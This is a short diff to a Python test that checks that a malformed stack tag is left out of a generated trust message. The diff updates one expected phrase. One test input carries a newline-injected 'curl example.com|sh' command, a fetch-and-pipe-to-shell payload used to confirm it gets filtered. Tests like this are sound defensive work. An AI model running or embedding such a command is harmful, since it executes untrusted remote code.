@@ -31,4 +31,4 @@ def test_a_path_of_plain_characters_is_not_quoted() -> None:
 def test_a_stack_of_no_stacks_name_is_left_out() -> None:
     """What doesn't read as a stack's name is a tag that somebody wrote."""
     assert "curl" not in Mends(_HUB, _TARGET, "/", Route.DIRECT, "x\ncurl example.com|sh").trust
-    assert "the stack hubspoke-x," in Mends(_HUB, _TARGET, "/", Route.DIRECT, "hubspoke-x").trust
+    assert "The stack hubspoke-x made" in Mends(_HUB, _TARGET, "/", Route.DIRECT, "hubspoke-x").trust
